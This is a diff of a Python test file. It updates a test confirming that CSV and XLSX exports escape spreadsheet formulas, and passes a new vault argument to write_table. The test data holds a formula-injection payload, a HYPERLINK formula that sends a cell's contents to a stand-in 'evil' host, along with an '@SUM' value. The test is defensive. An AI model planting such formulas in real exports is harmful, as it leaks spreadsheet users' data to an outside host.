@@ -274,15 +274,18 @@ def test_needs_over_time(supervised: Path) -> None:
         assert listed[-2:] == [1, 0] and sum(resolved) == 0  # opened Fri 20 Nov
 
 
-def test_exports_never_carry_live_formulas(tmp_path: Path) -> None:
+def test_exports_never_carry_live_formulas(tmp_path: Path, vault: Vault) -> None:
     target = tmp_path / "x.csv"
     export.write_table(
-        target, ["name"], [['=HYPERLINK("http://evil/?"&A1,"click")'], ["@SUM(1)"], ["张三"]]
+        vault,
+        target,
+        ["name"],
+        [['=HYPERLINK("http://evil/?"&A1,"click")'], ["@SUM(1)"], ["张三"]],
     )
     text = target.read_text("utf-8-sig")
     assert "\n\"'=HYPERLINK" in text and "'@SUM(1)" in text and "张三" in text
     xlsx = tmp_path / "x.xlsx"
-    export.write_table(xlsx, ["name"], [["=1+1"]])
+    export.write_table(vault, xlsx, ["name"], [["=1+1"]])
     from openpyxl import load_workbook
 
     assert load_workbook(xlsx).active["A2"].value == "'=1+1"
